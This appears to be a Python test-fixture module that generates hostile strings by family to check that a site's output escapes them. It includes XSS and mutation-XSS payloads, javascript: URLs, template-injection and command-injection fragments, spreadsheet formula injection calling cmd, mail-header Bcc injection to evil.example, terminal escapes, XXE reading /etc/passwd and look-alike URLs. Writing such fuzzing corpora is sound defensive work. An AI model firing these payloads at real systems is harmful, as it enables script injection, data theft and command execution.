"""Hostile strings of our own making, by family: each would do harm in some output if nothing stood in its way.

What runs sets `window.__canary` to its number, opens a dialog, or asks a host that isn't ours.
"""

from __future__ import annotations

import re
import unicodedata
from base64 import b64encode
from collections.abc import Iterable, Iterator, Sequence
from itertools import product

OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ufffe\uffff\ud800-\udfff]"
)
"""What a terminal or a reader of lines takes for more than a letter."""
HOST = "evil.example"
RUN = "__canary=NUMBER"
"""What a script would do; NUMBER is the string's own."""

_MARKUP = (
    f"<script>{RUN}</script>", f"<SCRIPT SRC=//{HOST}/NUMBER.js></SCRIPT>", f"<img src=x onerror={RUN}>", f'<img src="x" onerror="{RUN}">',
    f"<img src=//{HOST}/NUMBER.png>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>", f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x>", f"<svg><image href=//{HOST}/NUMBER>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject>", f"<math><a xlink:href=javascript:{RUN}>x</a></math>", f"<math><mtext><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>", f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", f"<base href=//{HOST}/>", f"<meta http-equiv=refresh content=0;url=//{HOST}/NUMBER>",
    f"<link rel=stylesheet href=//{HOST}/NUMBER.css>", f"<style>@import '//{HOST}/NUMBER.css'</style>", f"<p style=background:url(//{HOST}/NUMBER)>x</p>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>", f"<button form=x formaction=javascript:{RUN}>x</button>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<x onclick={RUN} style=position:fixed;inset:0>x</x>",
    f"<x tabindex=0 autofocus onfocus={RUN}>x</x>", f"<a href=javascript:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href=//{HOST}/ ping=//{HOST}/NUMBER>x</a>",
    f"<template><script>{RUN}</script></template>", f"<dialog open onclose={RUN}>", f"<p id=x popover onbeforetoggle={RUN}>", f"<area href=javascript:{RUN}>", f"<table background=//{HOST}/NUMBER>",
)  # fmt: skip
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></style>",
    "</script>",
    "-->",
    "--!>",
    "]]>",
    "</noscript></template>",
    "`>",
    '" ',
    "</p></article></main>",
    "<",
    "&lt;",
    "\\",
)
_MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">', f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style>', f"<svg><desc><noscript><style></noscript><img src=x onerror={RUN}>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={RUN}>'>", f"<!--><img src=x onerror={RUN}>-->", f"<!--!><script>{RUN}</script>-->",
    f"<?xml ?><script>{RUN}</script>", f"<![CDATA[><script>{RUN}</script>]]>", f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;", f"<p/onclick={RUN}/x>", f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<table><tr><td><p title='</table><script>{RUN}</script>'>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<img src='x' alt=`><img src=x onerror={RUN}>`>", f"<a title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<ſcript>{RUN}</ſcript>", f"＜script＞{RUN}＜/script＞", f"<\u0130mg src=x onerror={RUN}>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
    f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"&#1;javascript:{RUN}", f"%6Aavascript:{RUN}", f"javascript%3A{RUN}", f"javascript://%0a{RUN}", f"java\\script:{RUN}", f"ja\u00advascript:{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,{b64encode(b'<script>parent.__canary=1</script>').decode()}", f"data:image/svg+xml,<svg/onload={RUN}>",
    f"//{HOST}/NUMBER", f"\\\\{HOST}\\NUMBER", f"https:{HOST}", f"https:///{HOST}", f"https:\\\\{HOST}", f"https://user@{HOST}/", f"https://user:word@{HOST}/", f"http://{HOST}/", f"ftp://{HOST}/", "file:///etc/passwd", "blob:null/1",
    f"view-source:https://{HOST}/", f"feed:javascript:{RUN}", f"jar:https://{HOST}!/x", f"mailto:a@{HOST}?bcc=b@{HOST}", f"mailto:a@{HOST}%0aBcc:b@{HOST}", "tel:*21*2035550100#", "sms:2035550100", "intent://x#Intent;scheme=x;end", "../../admin", "#top", "?x=1", "",
)  # fmt: skip
_LINKS = (
    "[a]({})",
    "[a](<{}>)",
    "<{}>",
    "[a][r]\n\n[r]: {}",
    "[a][r]\n\n[r]: <{}>",
    "![a]({})",
    "[![a]({0})]({0})",
    '[a]({} "title")',
    "[a]( {} 'b')",
    "| a |\n|---|\n| [a]({}) |",
    "- [a]({})",
    "{}",
)
_MARKS = (
    f'{{: onclick="{RUN}" }}', f"a {{: onclick={RUN} }}", f'[a](https://example.com){{: onclick="{RUN}" }}', f"### a {{: #x onclick={RUN} }}", f"{{#x onclick={RUN}}}", f'a{{ style="background:url(//{HOST}/NUMBER)" }}',
    '--8<-- "mkdocs.yml"', '--8<--\nmkdocs.yml\n--8<--', ';--8<-- "mkdocs.yml"', '-8<- "mkdocs.yml"', f'--8<-- "https://{HOST}/NUMBER"', "!!! note\n    a", '??? note "a"\n    b', "::: noticeboard.cli", "[TOC]", "*[HTML]: a", "a[^1]\n\n[^1]: b", "++ctrl++", ":material-account:", "$$x$$",
    "```mermaid\ngraph TD;\n```", "~~~\na\n~~~", "```\n</details>\n```", "# a", "a\n===", "---\ntitle: Changed\ntemplate: 404.html\n---\n", "---\nhide: [toc]\n---", "title: Changed\n\nb", "...\n---\ntitle: Changed", "<!-- more -->", f"<div markdown=1 onclick={RUN}>*a*</div>",
    f'[a](https://example.com "\' onclick={RUN} x=\'")', f'[a](https://example.com "&quot; onclick={RUN} x=&quot;")', f"[a](https://example.com/&quot;onclick={RUN})", f"[a](https://example.com/'onclick={RUN})", '[a](https://example.com "&#27;[2J&#x202e;")', f"a&#10;&#13;Bcc: b@{HOST}",
)  # fmt: skip
_BRACES = (
    "{{ 7*191 }}", "{{ config }}", "{{ pages.settings }}", "{{ ''.__class__.__mro__ }}", "{% include 'post.html' %}", "{% raw %}", "{% endraw %}{{ 7*191 }}", "{%- set x=1 -%}", "{# a #}", "{{name}}", "{{ name }}", "{{{name}}}", "{{#name}}a{{/name}}", "{{{{name}}}}", "[[ 7*191 ]]", "[[name]]", "${7*191}", "#{7*191}",
    "<%= 7*191 %>", "<?= 7*191 ?>", "*|FNAME|*", "%%name%%", "%(title)s", "%(nothing)s", "%s%n%d", "100%", "{0}", "{title}", "{0.__class__}", "{body}", "\\1\\g<0>", "$&$1$`$'", "\\", "\\\\", "$(id)", "`id`", ";id", "|id", "&&id", "%%", "{", "}}", "{%", "%}", "{#",
)  # fmt: skip
_OWN = (
    "\ue000<h1>text\ue001", "\ue000<h1>head\ue001", "\ue000<h1>announce\ue001", "\ue000h1text\ue001", "\ue000", "\ue001", "<h1>text\ue001", "\ue000<h1>nothing\ue001", '<div data-set-in="0"></div>', "&lt;div data-set-in=&quot;0&quot;&gt;&lt;/div&gt;", '<div data-pagefind-ignore="all">', '<p data-pagefind-meta="title:x">x',
    "[data-nb-all]", "nb-banner", "NB_SEARCH", "SAMPLE", "pagefind_dcd", "own-systems", "*",
)  # fmt: skip
_FORMULAS = (
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("https://{HOST}/NUMBER")',
    f'=IMPORTXML("https://{HOST}/","//a")',
    "=1+191",
    "+1+191",
    "-1+191",
    "@SUM(1+191)",
    "|cmd",
    "%0A=1+191",
    "＝1+191",
    "＋1",
    "－1",
    "＠SUM(1)",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", ";", "; ", '";', '",', "a;", "a\t", "'", "a\n")
_HEADERS = (f"Bcc: v@{HOST}", "Content-Type: text/html", "X-Canary: 1", f"\r\n<script>{RUN}</script>", "Subject: Other")
_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "\u2028",
    "\u2029",
    "\x85",
    "\x0b",
    "\x0c",
    "\x1c",
    "\\n",
    "&#13;&#10;",
    "=0D=0A",
    "=?utf-8?q?=0D=0A?= ",
)
_TERMINAL = (
    "\x1b[2J",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    f"\x1b]8;;https://{HOST}\x07a\x1b]8;;\x07",
    "\x1bPq\x1b\\",
    "\x1b(0",
    "\x1b]52;c;YQ==\x07",
    "\x9b31m",
    "\x9d0;a\x9c",
    "a\x08\x08b",
    "\\x1b[2J",
    "\\e[2J",
    "^[[2J",
)
_XML = ("]]>", "]]>]]><![CDATA[", "<![CDATA[a]]>", '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;", "&undefined;", '<?xml version="1.0"?>', f'<?xml-stylesheet href="//{HOST}/NUMBER"?>', "</item></channel></rss>", "</entry></feed>", "</description><link>x</link>", "</div></content>", "xmlns:x='y'",
        "<x:include/>", "--", "&", "&&", "&#0;", "&#xFFFE;", "&#xD800;", "&#1114112;", "&nbsp;", "&lt", "&#60", "<a", "</", "<!", "<?", "\ufffe", "\uffff", "\U0001fffe")  # fmt: skip
_JSON = (
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    '"}]}</script>',
    f'","url":"javascript:{RUN}"',
    "\\",
    '\\"',
    '"',
    "'",
    "\\u0022}",
    "__proto__",
    '{"__proto__":{}}',
    "constructor",
    "\u2028",
    "null",
    "true",
    "NaN",
    "1e999",
    "[",
    "]}",
)
_CALENDAR = (
    "END:VEVENT\nBEGIN:VEVENT",
    f"ATTACH:https://{HOST}/NUMBER",
    "X-CANARY:1",
    "END:VCALENDAR",
    f"BEGIN:VALARM\nACTION:EMAIL\nATTENDEE:mailto:v@{HOST}",
    "\\;\\,\\n",
    ";X=1:",
    '"',
    "\\",
)
_GITHUB = (
    "::error::x",
    "::add-mask::a",
    "::stop-commands::x",
    "::set-output name=a::b",
    "##[add-mask]a",
    "##[error]a",
    "%0A::error::x",
    "\n::error::x",
    "``````",
    "```\n</details>\n# Approved",
    "~~~~~~",
    "a\n\n\\`\\`\\`\n\n# Approved",
    "\\`\\`\\`\\`\\`",
    "</details>",
    "@everyone",
    "#1",
    "[x]: y",
)
_LOOK_ALIKES = (
    "https://www.danbury.k12.ct.us@evil.example/", "https://ｄanbury.k12.ct.us/", "https://dаnbury.example/", "https://danbury.example。evil.example/", "https://danbury.example／x", "https://danbury.example%2f@evil.example/", "https://danbury.example\\@evil.example/", "https://[::1]/", "https://localhost/", "https://.example.org/",
    "https://example.org:0/", "https://example.org:99999/", "https://example.org:x/", "https://exa mple.org/", "https://example.org/\u202egnp.exe", "https://example.org/\u200b", "https://example.org/<script>", 'https://example.org/"onclick=x', "https://xn--80ak6aa92e.com/", "https://example.org#@evil.example/", "https://example.org?@evil.example/", "HTTPS://EXAMPLE.ORG/", "https://1.1/",
)  # fmt: skip
_ODD = (
    "a" * 3000, "é" * 600, "\u0301" * 300, "a" + "\u0336\u0489" * 80, "﷽" * 40, "𝕏" * 99, "👩‍👩‍👧‍👦" * 12, "🇺🇸" * 20, "שלום עולם", "مرحبا بالعالم", "\u0130\u0131ſK", "ﬁﬂ" * 10, "\u1e9e\xdf", "日本語" * 20, "\u3000" * 5 + "a", "\u2800" * 9, "\u00a0a\u00a0", "a" * 99 + "𝕏", "(" * 80, "[" * 80, "*a **b " * 30,
    "](" * 60, "> " * 40 + "a", "- " * 40 + "a", "|a" * 60 + "\n" + "|-" * 60, "`" * 99, "<" * 99, "&" * 99, "_" * 99, "~" * 99, "a\u200db", "\u200d", "\ufe0f", "\u20dd" * 20, "\U000e0041" * 5, "\u180e", "con", "nul", "aux.yml", ".", "..", "/", "~", "-", "--help", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a" * 260, "a/b" * 90, "%2e%2e%2f", "a\x00b",
)  # fmt: skip
IDS = (
    "../2026-09-18-x.yml", "2026-09-18-..yml", "2026-09-18-x/../y.yml", "2026-09-18-.yml", "2026-09-18--x.yml", "2026-09-18-x-.yml", "2026-09-18-X.yml", "2026-09-18-é.yml", "2026-09-18-x y.yml", "2026-09-18-x.yaml", "2026-09-18-x.yml.yml", "2026-09-18-x.yml\n", "2026-09-18-x\n.yml", "2026-09-18-x\n::error::x.yml",
    "2026-09-18-x\x1b[2J.yml", "2026-09-18-x\u202e.yml", "2026-09-18-<script>.yml", '2026-09-18-"onclick=x.yml', "2026-02-30-x.yml", "0000-00-00-x.yml", "2026-09-18.yml", "x.yml", ".yml", "yml", "2026-09-18-%2e%2e.yml", "2026-09-18-x\\y.yml", "2026-09-18-x;id.yml", "2026-09-18-$(id).yml", "２０２６-09-18-x.yml", "2026-09-18-х.yml", "2026-09-18-x\udcff.yml", "2026-09-18-x##[add-mask]a.yml", "2026-09-18-{{name}}.yml", "2026-09-18-con.yml.",
)  # fmt: skip
"""Names of files that no notice may have."""


def families() -> dict[str, list[str]]:
    """Return all strings by family, each once, with its number in the place of NUMBER."""
    number, seen = 0, set[str]()
    found: dict[str, list[str]] = {}
    for name, every in _families().items():
        found[name] = []
        for text in every:
            if text and text not in seen:
                seen.add(text)
                number += 1
                found[name].append(text.replace("NUMBER", str(number)))
    return found


def _crossed(every: Sequence[str], others: Sequence[str], times: int) -> Iterator[tuple[str, str]]:
    """Set each beside so many of the others, in turn: all with all would be too many for one build."""
    return (
        (one, others[(number + turn) % len(others)])
        for number, one in enumerate(every)
        for turn in range(0, 3 * times, 3)
    )


def _families() -> dict[str, Iterable[str]]:
    return {
        "markup": (before + text for text, before in _crossed(_MARKUP, _BREAKS, 5)),
        "mutation": _MUTATIONS,
        "links": (link.format(address) for address, link in _crossed(_ADDRESSES, _LINKS, 5)),
        "marks of Markdown": _MARKS,
        "templates": _BRACES,
        "our own marks": _OWN,
        "formulas": (before + text for text, before in product(_FORMULAS, _BEFORE)),
        "mail headers": (f"x{end}{header}" for header, end in product(_HEADERS, _LINE_ENDS)),
        "terminal": (*_TERMINAL, *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))),
        "XML": (*_XML, *(f"a&#{code};b" for code in (*range(0x20), *range(0x7F, 0xA0)))),
        "JSON and scripts": _JSON,
        "calendars": (f"x{end}{line}" for line, end in product(_CALENDAR, ("\n", "\r\n", "\r", "\\n", "\x0b", "\x85", "\u2028", ""))),
        "workflows": _GITHUB,
        "direction and zero width": (f"a{chr(code)}b" for code in range(0x10000) if unicodedata.category(chr(code)) in {"Cf", "Zl", "Zp"}),
        "look-alikes": _LOOK_ALIKES,
        "odd and long": _ODD,
    }  # fmt: skip


def everything() -> list[str]:
    """Return all strings in one list."""
    return [text for every in families().values() for text in every]
